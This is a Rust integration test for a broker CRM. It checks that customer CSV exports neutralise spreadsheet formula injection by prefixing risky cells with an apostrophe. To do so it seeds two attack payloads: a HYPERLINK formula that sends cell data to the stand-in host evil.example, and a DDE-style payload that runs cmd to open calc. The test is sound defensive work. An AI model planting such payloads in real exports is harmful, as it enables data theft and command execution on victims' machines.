//! Finding 8: CSV exports never hand a spreadsheet a formula. Cells starting with `=`, `+`,
//! `-`, `@`, tab or CR are written with a leading `'`; plain signed numbers stay as they are
//! (the writer's unit tests in `app/platform/exports/csv.rs` cover tab and CR).

use brokercrm_core::identity::auth::Role;
use serde_json::json;

use crate::helpers::TestApp;
use crate::helpers::http::post;

#[tokio::test]
async fn owasp_08_customer_export_escapes_formula_cells() {
    let t = TestApp::spawn().await;
    let (aff, _) = t.mint_token(Role::Affiliate).await;
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
    let (s, b) = post(
        &t,
        &aff,
        "/api/affiliates/customers",
        json!({"firstname": formula, "lastname": "@SUM(1+1)*cmd|' /C calc'!A0",
               "email": "formula@aff.test", "password": "Passw0rd500",
               "mobilenumber": "+447700900123", "source": "-2+3"}),
    )
    .await;
    assert_eq!(s, 201, "{b}");
    let r = t.server.get("/api/affiliates/customers/export").authorization_bearer(&aff).await;
    r.assert_status_ok();
    let text = r.text();
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = rd.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("firstname"), format!("'{formula}"));
    assert_eq!(cell("lastname"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("source"), "'-2+3");
    // A plain signed number is not a formula: kept readable.
    assert_eq!(cell("mobilenumber"), "+447700900123");
    // No cell of the file starts a formula.
    for row in &rows {
        for c in row {
            assert!(!c.starts_with(['=', '@', '\t', '\r']), "{c:?}");
        }
    }
}
